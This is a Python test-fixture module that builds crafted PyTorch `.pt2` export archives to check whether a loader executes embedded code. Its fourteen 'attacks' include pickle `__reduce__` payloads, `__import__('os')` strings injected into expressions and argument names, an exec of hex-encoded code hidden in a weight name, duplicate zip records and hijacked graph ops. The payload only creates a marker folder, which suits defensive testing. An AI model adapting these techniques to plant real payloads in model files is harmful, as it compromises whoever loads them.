"""Small `.pt2` files made by hand: honest ones, packed anew, and such that a careless reader would execute.

What a reader executes makes a folder, whose path the makers are given.
"""

import io
import json
import os
import pickle
import warnings
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch
from torch import nn

Records = dict[str, bytes]
"""What an archive holds, by name without the folder that all is in."""


class Model(nn.Module):
    """Tied weights, a buffer that is updated, one that is not persistent, nested inputs and outputs, a region."""

    count: torch.Tensor
    angles: torch.Tensor

    def __init__(self) -> None:
        super().__init__()
        self.first, self.second = nn.Linear(8, 8), nn.Linear(8, 8)
        self.second.weight = self.first.weight
        self.register_buffer("count", torch.zeros(3, dtype=torch.bfloat16))
        self.register_buffer("angles", torch.arange(8192.0).reshape(1024, 8), persistent=False)

    def forward(self, batch: dict[str, torch.Tensor], scale: float = 2.0) -> dict[str, object]:
        self.count.add_(1)
        with torch.no_grad():
            y = self.first(batch["x"]) * scale + self.angles[:2]
        return {"y": y, "all": [self.second(y), self.count]}


def save(model: nn.Module, args: tuple[Any, ...], path: Path) -> Path:
    """The model's exported program in a new file."""
    torch.export.save(torch.export.export(model.eval(), args), path)
    return path


def unpacked(path: Path) -> Records:
    """The records of an archive in order."""
    with zipfile.ZipFile(path) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def packed(records: Mapping[str, bytes], *more: tuple[str, bytes], compressed: bool = False) -> bytes:
    """An archive of the records, and of `more` behind them, which may have names that stand already."""
    out = io.BytesIO()
    how = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", how) as archive:
        warnings.simplefilter("ignore", UserWarning)  # of names that stand twice
        for name, content in (*records.items(), *more):
            archive.writestr(zipfile.ZipInfo(f"model/{name}"), content, archive.compression)
    return out.getvalue()


def changed(records: Records, name: str, change: Callable[[Any], object]) -> Records:
    """The records with the JSON of one of them changed in place."""
    value = json.loads(records[name])
    change(value)
    return {**records, name: json.dumps(value).encode()}


class _Command:
    """Whoever unpickles it makes a folder."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.mark),)


PROGRAM, CONSTANTS, WEIGHTS = (
    "models/model.json",
    "data/constants/model_constants_config.json",
    "data/weights/model_weights_config.json",
)


def pickled(mark: Path) -> bytes:
    """What makes the folder when it is unpickled; as long as some float32 are."""
    return pickle.dumps(_Command(mark), 2).ljust(1024)


def torch_pickled(mark: Path) -> bytes:
    """What makes the folder when `torch.load` reads it."""
    out = io.BytesIO()
    torch.save({"x": _Command(mark)}, out)
    return out.getvalue()


def _opaque_object(records: Records, mark: Path) -> bytes:
    def add(config: Any) -> None:
        config["config"]["o"] = config["config"]["angles"] | {"path_name": "opaque_obj_0"}

    return packed(changed(records, CONSTANTS, add) | {"data/constants/opaque_obj_0": pickled(mark)})


def _legacy(kind: str) -> Callable[[Records, Path], bytes]:
    return lambda records, mark: packed(records | {f"data/{kind}/model.pt": torch_pickled(mark)})


def _expression(records: Records, mark: Path) -> bytes:
    code = f"__import__('os').mkdir({str(mark)!r})"
    return packed(changed(records, PROGRAM, lambda p: _values(p)["linear_1"]["sizes"].__setitem__(0, _symbol(code))))


def _symbol(text: str) -> object:
    return {"as_expr": {"expr_str": text, "hint": {"as_int": 2}}}


def _twice(records: Records, mark: Path) -> bytes:
    evil = unpacked_bytes(_opaque_object(records, mark))[CONSTANTS]
    held = records | {"data/constants/opaque_obj_0": pickled(mark)}
    others = [(name, content) for name, content in held.items() if name != CONSTANTS]
    return packed({}, (CONSTANTS, evil), (CONSTANTS, records[CONSTANTS]), *others)


def _other_case(records: Records, mark: Path) -> bytes:
    evil = unpacked_bytes(_opaque_object(records, mark))[CONSTANTS]
    return packed({CONSTANTS.replace("data", "DATA"): evil, "data/constants/opaque_obj_0": pickled(mark)} | records)


def unpacked_bytes(archive: bytes) -> Records:
    """The records of an archive in memory."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name.partition("/")[2]: opened.read(name) for name in opened.namelist()}


def _values(program: Any) -> Any:
    return program["graph_module"]["graph"]["tensor_values"]


def _nodes(program: Any) -> Any:
    return program["graph_module"]["graph"]["nodes"]


def _in_program(change: Callable[[Any, Path], object]) -> Callable[[Records, Path], bytes]:
    return lambda records, mark: packed(changed(records, PROGRAM, lambda program: change(program, mark)))


def _rename_input(program: Any, mark: Path) -> None:
    """A default value in the Python code that torch makes of a graph."""
    text = json.dumps(program).replace('"batch_x"', json.dumps(f"batch_x=__import__('os').mkdir({str(mark)!r})"))
    program.clear()
    program.update(json.loads(text))


def _rename_argument(program: Any, mark: Path) -> None:
    signature = program["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"a=__import__('os').mkdir({str(mark)!r})", "scale=1"]


def _rename_weight(records: Records, mark: Path) -> bytes:
    """A name that ends the text that torch writes it into."""
    old = b'"first.bias"'
    code = f"__import__('os').mkdir({str(mark)!r})".encode().hex()
    new = json.dumps(f'x", None) if exec(bytes@fromhex("{code}")@decode()) else ("'.replace("@", ".")).encode()
    return packed({name: content.replace(old, new) for name, content in records.items()})


def _import_of_structure(program: Any, mark: Path) -> None:
    """A module beside: named by an enumeration among the keys of a dictionary."""
    key = {"__enum__": True, "fqn": "marking:Kind", "name": "A"}
    leaf = {"type": None, "context": None, "children_spec": []}
    spec = {"type": "builtins.dict", "context": json.dumps([key]), "children_spec": [leaf]}
    program["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps([1, spec])


def _default_factory(program: Any, mark: Path) -> None:
    leaf = {"type": None, "context": None, "children_spec": []}
    context = {"default_factory_module": "marking", "default_factory_name": "Kind", "dict_context": ["y"]}
    spec = {"type": "collections.defaultdict", "context": context, "children_spec": [leaf]}
    program["graph_module"]["module_call_graph"][0]["signature"]["out_spec"] = json.dumps([1, spec])


def _call(program: Any, mark: Path) -> None:
    """A node of another function of Python's, called when ops are decomposed."""
    named = [{"name": "", "arg": {"as_string": str(mark)}, "kind": 1}]
    node = _nodes(program)[0] | {
        "target": "torch.serialization.os.mkdir",
        "inputs": named,
        "outputs": [{"as_none": True}],
    }
    _nodes(program).append(node)


def _jit_builtin(program: Any, mark: Path) -> None:
    """TorchScript's own `save`."""
    named = [
        {"name": "item", "arg": {"as_tensor": {"name": "batch_x"}}, "kind": 1},
        {"name": "filename", "arg": {"as_string": str(mark)}, "kind": 1},
    ]
    _nodes(program).append(
        _nodes(program)[0]
        | {"target": "torch.ops.aten.save.default", "inputs": named, "outputs": [{"as_none": True}], "name": "z"}
    )


def _file_op(program: Any, mark: Path) -> None:
    """An op of the dispatcher that makes a file."""
    arguments = {"filename": {"as_string": str(mark)}, "shared": {"as_bool": True}, "size": {"as_int": 8}}
    named = [{"name": name, "arg": value, "kind": 1} for name, value in arguments.items()]
    outputs = [{"as_tensor": {"name": "z"}}]
    _values(program)["z"] = _values(program)["linear_1"]
    _nodes(program).append(
        _nodes(program)[0]
        | {"target": "torch.ops.aten.from_file.default", "inputs": named, "outputs": outputs, "name": "z"}
    )


ATTACKS: dict[str, Callable[[Records, Path], bytes]] = {
    "opaque object": _opaque_object,
    "legacy constants": _legacy("constants"),
    "legacy weights": _legacy("weights"),
    "expression": _expression,
    "record twice": _twice,
    "record in other case": _other_case,
    "name of an input": _in_program(_rename_input),
    "name of an argument": _in_program(_rename_argument),
    "name of a weight": _rename_weight,
    "enumeration in a structure": _in_program(_import_of_structure),
    "default of a structure": _in_program(_default_factory),
    "function as op": _in_program(_call),
    "TorchScript builtin as op": _in_program(_jit_builtin),
    "op that makes a file": _in_program(_file_op),
}
"""Archives of `Model` that execute something where a reader hands them to torch, by the way in."""
